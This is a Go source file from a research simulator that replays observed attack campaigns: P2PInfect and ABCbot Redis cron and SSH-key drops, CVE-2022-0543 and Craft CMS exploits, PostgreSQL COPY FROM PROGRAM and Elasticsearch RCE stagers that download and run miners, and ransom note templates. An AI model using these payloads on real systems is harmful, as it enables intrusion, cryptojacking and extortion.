@@ -1,0 +1,185 @@
+// Campaign payload builders replaying the attack sequences from the
+// paper's listings. Per-actor parameters (loader IPs, payload hashes)
+// vary, exactly the randomisation that motivates TF clustering over
+// normalised actions (Section 6.1).
+package simnet
+
+import (
+	"encoding/base64"
+	"fmt"
+)
+
+// p2pinfectCmds reproduces Listing 1: the P2PInfect worm's Redis
+// infection chain — cron/ssh-key file drops via CONFIG SET, a rogue
+// SLAVEOF master serving exp.so, MODULE LOAD, and system.exec cleanup.
+func p2pinfectCmds(c2 string, port int, hash string) [][]string {
+	dropper := fmt.Sprintf(
+		"\n\n*/1 * * * * root exec 6<>/dev/tcp/%s/%d && echo -n 'GET /linux' >&6 && cat 0<&6 >/tmp/%s; fi && chmod +x /tmp/%s && /tmp/%s\n",
+		c2, port, hash, hash, hash)
+	return [][]string{
+		{"INFO", "server"},
+		{"FLUSHDB"},
+		{"SET", "x", dropper},
+		{"CONFIG", "SET", "rdbcompression", "no"},
+		{"CONFIG", "SET", "dir", "/var/spool/cron.d/"},
+		{"CONFIG", "SET", "dbfilename", "root"},
+		{"SAVE"},
+		{"CONFIG", "SET", "dir", "/var/lib/redis"},
+		{"CONFIG", "SET", "dbfilename", "dump.rdb"},
+		{"CONFIG", "SET", "rdbcompression", "yes"},
+		{"FLUSHDB"},
+		{"SET", "x", "\n\nssh-rsa AAAAB3NzaC1yc2E" + hash[:8] + " root@localhost.localdomain\n\n"},
+		{"CONFIG", "SET", "dir", "/root/.ssh/"},
+		{"CONFIG", "SET", "dbfilename", "authorized_keys"},
+		{"SAVE"},
+		{"CONFIG", "SET", "dir", "/var/lib/redis"},
+		{"CONFIG", "SET", "dbfilename", "dump.rdb"},
+		{"CONFIG", "SET", "dir", "/tmp/"},
+		{"CONFIG", "SET", "dbfilename", "exp.so"},
+		{"SLAVEOF", c2, fmt.Sprintf("%d", port)},
+		{"MODULE", "LOAD", "/tmp/exp.so"},
+		{"SLAVEOF", "NO", "ONE"},
+		{"CONFIG", "SET", "dir", "/var/lib/redis"},
+		{"CONFIG", "SET", "dbfilename", "dump.rdb"},
+		{"system.exec", fmt.Sprintf("exec 6<>/dev/tcp/%s/%d && echo -n 'GET /linux' >&6 && cat 0<&6 >/tmp/%s; fi && chmod +x /tmp/%s && /tmp/%s", c2, port, hash, hash, hash)},
+		{"SLAVEOF", "NO", "ONE"},
+		{"system.exec", "rm -rf /tmp/exp.so"},
+		{"MODULE", "UNLOAD", "system"},
+	}
+}
+
+// abcbotCmds reproduces Listing 2: the ABCbot cron-dropper fetching
+// ff.sh from its loader.
+func abcbotCmds(c2 string, port int) [][]string {
+	cron := fmt.Sprintf("\n\n*/2 * * * * root wget -q -O- http://%s:%d/ff.sh | sh\n*/3 * * * * root curl -fsSL http://%s:%d/ff.sh | sh\n", c2, port, c2, port)
+	return [][]string{
+		{"INFO"},
+		{"SET", "backup1", cron},
+		{"CONFIG", "SET", "dir", "/var/spool/cron/"},
+		{"CONFIG", "SET", "dbfilename", "root"},
+		{"SAVE"},
+		{"CONFIG", "SET", "dir", "/var/spool/cron/crontabs"},
+		{"SAVE"},
+	}
+}
+
+// redisCVECmds reproduces Listing 3: the CVE-2022-0543 Lua sandbox escape
+// probing with `id`.
+func redisCVECmds() [][]string {
+	lua := `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res`
+	return [][]string{
+		{"EVAL", lua, "0"},
+	}
+}
+
+// kinsingQueries reproduces Listing 4: PostgreSQL code execution through
+// COPY FROM PROGRAM with a base64-encoded stager (Listing 9) that pulls
+// pg.sh / pg2.sh.
+func kinsingQueries(c2, hash string) []string {
+	stager := fmt.Sprintf(`#!/bin/bash
+pkill -x zsvc
+pkill -x pdefenderd
+pkill -x updatecheckerd
+if [ -x "$(command -v curl)" ]; then
+  curl %s/pg.sh|bash
+elif [ -x "$(command -v wget)" ]; then
+  wget -q -O- %s/pg.sh|bash
+else
+  __curl http://%s/pg2.sh|bash
+fi`, c2, c2, c2)
+	b64 := base64.StdEncoding.EncodeToString([]byte(stager))
+	return []string{
+		fmt.Sprintf("DROP TABLE IF EXISTS %s;", hash),
+		fmt.Sprintf("CREATE TABLE %s(cmd_output text);", hash),
+		fmt.Sprintf("COPY %s FROM PROGRAM 'echo %s | base64 -d | bash';", hash, b64),
+		fmt.Sprintf("SELECT * FROM %s;", hash),
+		fmt.Sprintf("DROP TABLE IF EXISTS %s;", hash),
+	}
+}
+
+// privilegeQueries reproduces Listing 13: superuser password change and
+// privilege revocation.
+func privilegeQueries(pass string) []string {
+	return []string{
+		fmt.Sprintf("ALTER USER pgg_superadmins WITH PASSWORD '%s'", pass),
+		"ALTER USER postgres WITH NOSUPERUSER",
+	}
+}
+
+// luciferReqs reproduces Listings 5–6: Elasticsearch dynamic-scripting
+// RCE staging the Rudedevil/Lucifer miners sss6/sv6.
+func luciferReqs(c2 string, port int) []httpReq {
+	script := fmt.Sprintf(`import java.util.*;import java.io.*;BufferedReader br = new BufferedReader(new InputStreamReader(Runtime.getRuntime().exec("curl -o /tmp/sss6 http://%s:%d/sss6").getInputStream()));StringBuilder sb = new StringBuilder();while((str=br.readLine())!=null){sb.append(str);}sb.toString();`, c2, port)
+	body := fmt.Sprintf(`{"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"exp":{"script":"%s"}}}`, script)
+	stage2 := fmt.Sprintf(`rm *
+curl -o /tmp/sss6 http://%s:%d/sss6
+wget -c http://%s:%d/sss6
+chmod 777 /tmp/./sss6
+exec /tmp/./sss6
+rm /tmp/*
+wget http://%s:%d/sv6
+chmod 777 sv6
+exec ./sv6
+rm -r sv6`, c2, port, c2, port, c2, port)
+	return []httpReq{
+		{method: "POST", target: "/_search", body: body},
+		{method: "POST", target: "/_search", body: fmt.Sprintf(`{"script_fields":{"exp":{"script":"Runtime.getRuntime().exec(\"%s\")"}}}`, "sh -c "+oneLine(stage2))},
+	}
+}
+
+func oneLine(s string) string {
+	out := make([]byte, 0, len(s))
+	for i := 0; i < len(s); i++ {
+		if s[i] == '\n' {
+			out = append(out, ';', ' ')
+			continue
+		}
+		if s[i] == '"' {
+			out = append(out, '\'')
+			continue
+		}
+		out = append(out, s[i])
+	}
+	return string(out)
+}
+
+// craftReqs reproduces Listing 14: the Craft CMS CVE-2023-41892 probe —
+// sent to whatever answers on the port, Elasticsearch included.
+func craftReqs() []httpReq {
+	body := `action=conditions/render&test[userCondition]=craft\elements\conditions\users\UserCondition&config={"name":"test[userCondition]","as xyz":{"class":"\\GuzzleHttp\\Psr7\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}`
+	return []httpReq{
+		{method: "POST", target: "/index.php?p=admin/actions/conditions/render", body: body},
+	}
+}
+
+// vmwareReqs reproduces Listing 12: vSphere version recon ahead of
+// CVE-2021-22005 exploitation.
+func vmwareReqs() []httpReq {
+	body := `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><RetrieveServiceContent xmlns="urn:vim25"><_this type="ServiceInstance">ServiceInstance</_this></RetrieveServiceContent></soap:Body></soap:Envelope>`
+	return []httpReq{
+		{method: "POST", target: "/sdk", body: body},
+	}
+}
+
+// rdpPayload is the RDP negotiation blob from Listing 10 (an mstshash
+// cookie on a database port). The blob ends at the cookie terminator so
+// line-oriented honeypots observe exactly one probe line per connection.
+func rdpPayload() string {
+	return "\x03\x00\x00\x26\x21\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n"
+}
+
+// jdwpPayload is the JDWP handshake from Listing 11.
+func jdwpPayload() string { return "JDWP-Handshake" }
+
+// Ransom note templates from Listings 7 and 8 — two distinct groups.
+const (
+	ransomNote1 = "All your data is backed up. You must pay 0.0058 BTC to %s In 48 hours, your data will be publicly disclosed and deleted. (more information: go to http://tor2door.example) After paying send mail to us: %s and we will provide a link for you to download your data. Your DBCODE is: %s"
+	ransomNote2 = "Your DB has been back up. The only way of recovery is you must send 0.007 BTC to %s. Once paid please email %s with code: %s and we will recover your database. please read http://recover.example for more information."
+)
+
+func ransomNote(group int, btcAddr, email, code string) string {
+	if group == 0 {
+		return fmt.Sprintf(ransomNote1, btcAddr, email, code)
+	}
+	return fmt.Sprintf(ransomNote2, btcAddr, email, code)
+}
